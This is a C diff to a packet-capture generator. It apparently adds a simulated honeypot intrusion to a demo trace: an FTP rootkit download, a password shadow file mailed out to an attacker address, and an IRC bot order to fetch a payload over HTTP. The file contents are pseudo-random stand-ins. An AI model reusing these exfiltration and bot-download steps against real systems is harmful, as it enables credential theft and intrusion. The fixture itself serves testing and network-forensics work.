@@ -313,6 +313,83 @@ static void conv_say(struct conv *v, int from_server, const char *text)
 	tick(v->c, 150000);
 }
 
+/* Sends len bytes in segments of at most 1448. */
+static void conv_send(struct conv *v, int from_server, const uint8_t *p, unsigned len)
+{
+	for (unsigned o = 0; o < len; o += 1448) {
+		unsigned n = len - o < 1448 ? len - o : 1448;
+		if (from_server) {
+			tcp_pkt(v->c, mac_b, mac_a, v->srv, v->sport, v->cli, v->cport, F_PSH | F_ACK, v->sseq, v->cseq, 5792, p + o, n, 0);
+			v->sseq += n;
+		} else {
+			tcp_pkt(v->c, mac_a, mac_b, v->cli, v->cport, v->srv, v->sport, F_PSH | F_ACK, v->cseq, v->sseq, 5840, p + o, n, 0);
+			v->cseq += n;
+		}
+		tick(v->c, 2000);
+	}
+	tick(v->c, 50000);
+}
+
+/* Both sides FIN (the client first), and the last ACK. */
+static void conv_close(struct conv *v)
+{
+	tcp_pkt(v->c, mac_a, mac_b, v->cli, v->cport, v->srv, v->sport, F_FIN | F_ACK, v->cseq, v->sseq, 5840, "", 0, 0);
+	v->cseq++;
+	tick(v->c, 400);
+	tcp_pkt(v->c, mac_b, mac_a, v->srv, v->sport, v->cli, v->cport, F_FIN | F_ACK, v->sseq, v->cseq, 5792, "", 0, 0);
+	v->sseq++;
+	tick(v->c, 300);
+	tcp_pkt(v->c, mac_a, mac_b, v->cli, v->cport, v->srv, v->sport, F_ACK, v->cseq, v->sseq, 5840, "", 0, 0);
+	tick(v->c, 100000);
+}
+
+/* n deterministic pseudo-random bytes (xorshift32 from seed). */
+static void prandom(uint8_t *p, unsigned n, uint32_t seed)
+{
+	uint32_t x = seed;
+	for (unsigned i = 0; i < n; i++) {
+		x ^= x << 13;
+		x ^= x >> 17;
+		x ^= x << 5;
+		p[i] = (uint8_t)(x >> 24);
+	}
+}
+
+/* Base64 of p, in lines of 76 ending CRLF; returns the length written. */
+static unsigned base64_lines(char *d, const uint8_t *p, unsigned n)
+{
+	static const char t[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+	unsigned k = 0, col = 0;
+	for (unsigned i = 0; i < n; i += 3) {
+		uint32_t v = (uint32_t)p[i] << 16 | (i + 1 < n ? (uint32_t)p[i + 1] << 8 : 0) | (i + 2 < n ? p[i + 2] : 0);
+		d[k++] = t[v >> 18 & 63];
+		d[k++] = t[v >> 12 & 63];
+		d[k++] = i + 1 < n ? t[v >> 6 & 63] : '=';
+		d[k++] = i + 2 < n ? t[v & 63] : '=';
+		if ((col += 4) == 76 || i + 3 >= n) {
+			d[k++] = '\r';
+			d[k++] = '\n';
+			col = 0;
+		}
+	}
+	return k;
+}
+
+/* The files the demo's intruder moves (tests/session/run.sh checks their
+ * SHA-256): the rootkit fetched by FTP, the one the bot fetches by HTTP,
+ * and the password file mailed out. */
+#define DEMO_FTP_FILE_LEN 6000
+#define DEMO_FTP_FILE_SEED 0x1f7e2001u
+#define DEMO_HTTP_FILE_LEN 5000
+#define DEMO_HTTP_FILE_SEED 0x0badf00du
+static const char demo_shadow[] =
+	"root:$1$Vg2aNc7J$M0ZfE8w7PXkQyBq6cR2vA/:11595:0:99999:7:::\n"
+	"bin:*:11595:0:99999:7:::\n"
+	"daemon:*:11595:0:99999:7:::\n"
+	"ftp:*:11595:0:99999:7:::\n"
+	"named:!!:11595:0:99999:7:::\n"
+	"jdoe:$1$Xr5qLm0P$5yU0Bj1hT9zW3qGd6eN2c.:11595:0:99999:7:::\n";
+
 static int gen_demo(const char *path)
 {
 	struct cap c;
@@ -392,6 +469,94 @@ static int gen_demo(const char *path)
 	icmp_echo(&c, "10.10.253.34", "192.5.5.241", 8, 0x0301, 1);
 	tick(&c, 31000);
 	icmp_echo(&c, "192.5.5.241", "10.10.253.34", 0, 0x0301, 1);
+	tick(&c, 800000);
+
+	/* 7. From the honeypot, the intruder fetches a rootkit by FTP (passive) */
+	static uint8_t blob[DEMO_FTP_FILE_LEN > DEMO_HTTP_FILE_LEN ? DEMO_FTP_FILE_LEN : DEMO_HTTP_FILE_LEN];
+	struct conv f2 = { &c, "192.168.100.45", "211.20.37.60", 1034, 21, 0x0c0ffee0u, 0x7e57da7au };
+	conv_open(&f2);
+	conv_say(&f2, 1, "220 ProFTPD 1.2.0pre10 Server (warez) [211.20.37.60]\r\n");
+	conv_say(&f2, 0, "USER anonymous\r\n");
+	conv_say(&f2, 1, "331 Anonymous login ok, send your complete email address as your password.\r\n");
+	conv_say(&f2, 0, "PASS root@\r\n");
+	conv_say(&f2, 1, "230 Anonymous access granted, restrictions apply.\r\n");
+	conv_say(&f2, 0, "TYPE I\r\n");
+	conv_say(&f2, 1, "200 Type set to I.\r\n");
+	conv_say(&f2, 0, "PASV\r\n");
+	conv_say(&f2, 1, "227 Entering Passive Mode (211,20,37,60,18,53).\r\n");
+	struct conv fd = { &c, "192.168.100.45", "211.20.37.60", 1035, 18 * 256 + 53, 0x2d2d2d2du, 0x5a5a5a5au };
+	conv_open(&fd);
+	conv_say(&f2, 0, "RETR lrk5.tgz\r\n");
+	conv_say(&f2, 1, "150 Opening BINARY mode data connection for lrk5.tgz (6000 bytes).\r\n");
+	prandom(blob, DEMO_FTP_FILE_LEN, DEMO_FTP_FILE_SEED);
+	conv_send(&fd, 1, blob, DEMO_FTP_FILE_LEN);
+	conv_close(&fd);
+	conv_say(&f2, 1, "226 Transfer complete.\r\n");
+	conv_say(&f2, 0, "QUIT\r\n");
+	conv_say(&f2, 1, "221 Goodbye.\r\n");
+	conv_close(&f2);
+
+	/* 8. ... and mails the password file out */
+	struct conv sm = { &c, "192.168.100.45", "207.46.104.20", 1036, 25, 0x11112222u, 0x33334444u };
+	conv_open(&sm);
+	conv_say(&sm, 1, "220 mx.hush.example ESMTP Sendmail 8.11.6; Sun, 7 Oct 2001 12:08:31 GMT\r\n");
+	conv_say(&sm, 0, "HELO localhost.localdomain\r\n");
+	conv_say(&sm, 1, "250 mx.hush.example Hello\r\n");
+	conv_say(&sm, 0, "MAIL FROM:<root@localhost.localdomain>\r\n");
+	conv_say(&sm, 1, "250 2.1.0 Sender ok\r\n");
+	conv_say(&sm, 0, "RCPT TO:<h4x0r@hush.example>\r\n");
+	conv_say(&sm, 1, "250 2.1.5 Recipient ok\r\n");
+	conv_say(&sm, 0, "DATA\r\n");
+	conv_say(&sm, 1, "354 Enter mail, end with \".\" on a line by itself\r\n");
+	static char mail[4096];
+	unsigned ml = (unsigned)snprintf(mail, sizeof mail,
+		"From: root@localhost.localdomain\r\n"
+		"To: h4x0r@hush.example\r\n"
+		"Subject: 192.168.100.45 owned\r\n"
+		"Date: Sun, 7 Oct 2001 12:08:31 +0000\r\n"
+		"Message-ID: <200110071208.h4x0r@localhost.localdomain>\r\n"
+		"X-Mailer: mutt 1.2.5i\r\n"
+		"MIME-Version: 1.0\r\n"
+		"Content-Type: multipart/mixed; boundary=\"=_x0x0\"\r\n"
+		"\r\n"
+		"--=_x0x0\r\n"
+		"Content-Type: text/plain\r\n"
+		"\r\n"
+		"box is ours. shadow attached.\r\n"
+		"..and lrk5 is in\r\n"
+		"--=_x0x0\r\n"
+		"Content-Type: application/octet-stream; name=\"shadow\"\r\n"
+		"Content-Disposition: attachment; filename=\"shadow\"\r\n"
+		"Content-Transfer-Encoding: base64\r\n"
+		"\r\n");
+	ml += base64_lines(mail + ml, (const uint8_t *)demo_shadow, sizeof demo_shadow - 1);
+	ml += (unsigned)snprintf(mail + ml, sizeof mail - ml, "--=_x0x0--\r\n.\r\n");
+	conv_send(&sm, 0, (const uint8_t *)mail, ml);
+	conv_say(&sm, 1, "250 2.0.0 f97C8VZ01234 Message accepted for delivery\r\n");
+	conv_say(&sm, 0, "QUIT\r\n");
+	conv_say(&sm, 1, "221 2.0.0 mx.hush.example closing connection\r\n");
+	conv_close(&sm);
+
+	/* 9. The IRC bot gets an order ... */
+	conv_say(&ircc, 1, ":h4x0r!~h@61.219.90.180 PRIVMSG #owned :!get http://64.124.157.48/x/rk.tgz\r\n");
+
+	/* 10. ... and the Windows box fetches it by HTTP */
+	struct conv hc = { &c, "172.16.134.191", "64.124.157.48", 1031, 80, 0x44556677u, 0x66778899u };
+	conv_open(&hc);
+	conv_say(&hc, 0, "GET /x/rk.tgz HTTP/1.0\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 5.5; Windows 98)\r\n"
+		 "Host: 64.124.157.48\r\n\r\n");
+	static const char resp[] = "HTTP/1.0 200 OK\r\nServer: Apache/1.3.20 (Unix)\r\n"
+				   "Content-Type: application/x-gzip\r\nContent-Length: 5000\r\n\r\n";
+	conv_send(&hc, 1, (const uint8_t *)resp, sizeof resp - 1);
+	prandom(blob, DEMO_HTTP_FILE_LEN, DEMO_HTTP_FILE_SEED);
+	conv_send(&hc, 1, blob, DEMO_HTTP_FILE_LEN);
+	tcp_pkt(&c, mac_b, mac_a, hc.srv, hc.sport, hc.cli, hc.cport, F_FIN | F_ACK, hc.sseq, hc.cseq, 5792, "", 0, 0);
+	hc.sseq++;
+	tick(&c, 300);
+	tcp_pkt(&c, mac_a, mac_b, hc.cli, hc.cport, hc.srv, hc.sport, F_FIN | F_ACK, hc.cseq, hc.sseq, 5840, "", 0, 0);
+	hc.cseq++;
+	tick(&c, 300);
+	tcp_pkt(&c, mac_b, mac_a, hc.srv, hc.sport, hc.cli, hc.cport, F_ACK, hc.sseq, hc.cseq, 5792, "", 0, 0);
 	fclose(c.f);
 	return 0;
 }
